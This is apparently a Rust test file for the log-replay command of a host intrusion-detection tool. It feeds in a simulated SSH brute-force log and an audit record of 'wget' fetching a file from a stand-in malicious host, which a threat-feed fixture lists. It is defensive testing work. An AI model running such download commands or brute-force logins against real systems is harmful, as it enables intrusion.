//! `replay`.

use std::process::Command;

use serde_json::Value;

use super::{defender, repository, shipped_rules, with_input};

/// Six failed logins and one that succeeds, as sshd logs them.
fn attack() -> String {
    let failed = (0..6).map(|second| {
        format!(
            "Nov  3 20:50:0{second} host sshd[{}]: Failed password for root from 198.51.100.7 port 4000{second} ssh2\n",
            100 + second
        )
    });
    let mut log: String = failed.collect();
    log.push_str(
        "Nov  3 20:50:09 host sshd[200]: Accepted password for root from 198.51.100.7 port 40009 ssh2\n",
    );
    log
}

#[test]
fn replay_finds_an_attack_in_a_log_and_says_the_same_each_time() {
    let rules = shipped_rules();
    let first = with_input(&["replay", "-", "--rules", &rules], attack().as_bytes());
    assert_eq!(first.status, 0, "{first:?}");
    assert!(
        first.output.starts_with("2000-11-03T20:50:04.000Z  high           ")
            && first.output.contains("[block_source 198.51.100.7]")
            && first.output.contains("critical"),
        "{first:?}"
    );
    assert!(
        first.errors.contains("7 lines: 7 events, 0 lines about something else, 0 lines not understood"),
        "{first:?}"
    );
    let json = || with_input(&["replay", "-", "--json", "--rules", &rules], attack().as_bytes());
    let once = json();
    assert_eq!(once.output, json().output);
    let alerts: Vec<Value> = once.output.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(alerts.len(), first.output.lines().count());
    assert_eq!(alerts[0]["metadata"]["sequence"], 6, "five events, then the alert: {}", alerts[0]);
    assert_eq!(
        (&alerts[0]["device"]["uid"], &alerts[0]["time"]),
        (&"replay".into(), &973_284_604_000_i64.into())
    );
}

#[test]
fn replay_reads_every_kind_of_line_mixed() {
    // Our own events, encoded again from the attack, give the same alerts as the log.
    let mut mixed = Vec::new();
    let device = defender_model::identity::DeviceIdentity::default();
    let address: std::net::IpAddr = "198.51.100.7".parse().unwrap();
    for second in 0..6 {
        let login = defender_model::authentication::Authentication {
            activity: defender_model::authentication::Activity::Logon,
            outcome: defender_model::authentication::Outcome::Failure,
            user: Some("root".into()),
            user_known: None,
            service: "sshd".into(),
            method: None,
            source: Some(address),
            source_port: None,
            tty: None,
            pid: Some(100 + second),
            count: 1,
            duration_ms: None,
            message: String::new(),
        };
        let time = defender_model::time::Timestamp(i64::from(second) * 1000);
        defender_model::ocsf::encode(
            &defender_model::event::Event::new(time, login.into()),
            &device,
            &mut mixed,
        );
        mixed.push(b'\n');
    }
    let audit = repository("agent/sensors/src/process/audit/testdata/plain.log");
    mixed.extend(std::fs::read(audit).unwrap());
    mixed.extend(b"\n{\"class_uid\":2004,\"time\":1}\nnonsense \xff\n{broken\n\n");
    let ended = with_input(&["replay", "-", "--rules", &shipped_rules()], &mixed);
    assert_eq!(ended.status, 0);
    assert_eq!(ended.output.matches("198.51.100.7]").count(), 1, "{ended:?}");
    assert!(ended.errors.contains("2 lines not understood"), "{ended:?}");
    let events: u64 =
        ended.errors.split("lines: ").nth(1).unwrap().split(' ').next().unwrap().parse().unwrap();
    assert!(events > 6, "audit records gave none: {ended:?}");
}

#[test]
fn replay_holds_events_against_the_feeds_of_a_configuration() {
    let directory = tempfile::tempdir().unwrap();
    let file = |name: &str| directory.path().join(name).display().to_string();
    std::fs::write(file("bots.txt"), "# seen in our network\n198.51.100.0/24 ssh worm\nbad.example\n")
        .unwrap();
    std::fs::write(file("broken.txt"), "<html>\n").unwrap();
    let config = format!("[rules]\ndirectories = []\n[feeds]\ndirectories = [{:?}]\n", directory.path());
    std::fs::write(file("defender.toml"), config).unwrap();
    let line = r#"type=EXECVE msg=audit(1700000000.100:7): argc=2 a0="wget" a1="http://x.bad.example/a""#;
    let syscall = "type=SYSCALL msg=audit(1700000000.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=9 uid=0 exe=\"/bin/wget\"";
    let log = format!("{syscall}\n{line}\ntype=EOE msg=audit(1700000000.100:7):\n{}", attack());
    let ended = with_input(&["replay", "-", "--config", &file("defender.toml")], log.as_bytes());
    assert_eq!(ended.status, 0, "{ended:?}");
    assert!(ended.output.contains("198.51.100.0/24 (ssh worm)"), "{ended:?}");
    assert!(ended.output.contains("Program given a listed host (feed bots): bad.example"), "{ended:?}");
    assert!(ended.errors.contains("feed broken") && ended.errors.contains("line 1"), "{ended:?}");
}

#[test]
fn replay_tells_what_it_cannot_read() {
    let rules = shipped_rules();
    for (arguments, status, says) in [
        (&["replay", "/nonexistent", "--rules", &rules][..], 3, "/nonexistent: cannot be read"),
        (&["replay", "/", "--rules", &rules], 3, "cannot be read"),
        (&["replay", "-", "--rules", "/nonexistent"], 2, "no rules"),
        (&["replay"], 2, "FILE is missing"),
    ] {
        let ended = defender(arguments);
        assert!(ended.status == status && ended.errors.contains(says), "{arguments:?}: {ended:?}");
    }
}

#[test]
fn replay_takes_any_bytes() {
    // A fixed generator (Knuth's MMIX), so that a failure can be repeated.
    let mut state = 1u64;
    let mut input = Vec::new();
    let parts: [&[u8]; 8] = [
        b"type=SYSCALL msg=audit(1700000000.1:",
        b"type=EXECVE msg=audit(1.1:1): argc=99 a0=",
        b"{\"class_uid\":1007,",
        b"Nov  3 20:50:52 h sshd[1]: ",
        b"<38>",
        b"Failed password for ",
        b" from 1.2.3.4 port 1 ssh2",
        b"\n",
    ];
    for _ in 0..60_000 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        match (state >> 60) as usize {
            part @ 0..=7 => input.extend(parts[part]),
            _ => input.push((state >> 40) as u8),
        }
    }
    let ended = with_input(&["replay", "-", "--rules", &shipped_rules()], &input);
    assert_eq!(ended.status, 0, "{}", ended.errors);
}

#[test]
fn replay_runs_in_bounded_memory() {
    // 48 MiB of log through a process with an address space of 48 MiB, libraries included: it can never hold the log. Most of it are long
    // lines about something else, which a build for tests is quick enough for.
    let logins: String = (0..20_000)
        .map(|n| {
            format!(
                "2026-11-03T20:{:02}:{:02}Z h sshd[{n}]: Failed password for u{n} from 10.{}.{}.{} port 1 ssh2\n",
                n / 60 % 60,
                n % 60,
                n % 7,
                n / 256 % 256,
                n % 256
            )
        })
        .collect();
    let other = format!("2026-11-03T20:00:00Z h app[1]: {}\n", "x".repeat(2000));
    let lines = logins + &other.repeat(1000);
    let input = lines.repeat(1 + 48 * 1024 * 1024 / lines.len());
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), &input).unwrap();
    let script = format!(
        "ulimit -v 49152; exec {} replay {} --json --rules {} >/dev/null",
        env!("CARGO_BIN_EXE_defender"),
        file.path().display(),
        shipped_rules()
    );
    let ended = Command::new("sh").args(["-c", &script]).output().unwrap();
    let errors = String::from_utf8(ended.stderr).unwrap();
    assert!(ended.status.success(), "{errors}");
    assert!(errors.contains(&format!("{} lines: ", input.lines().count())), "{errors}");
}
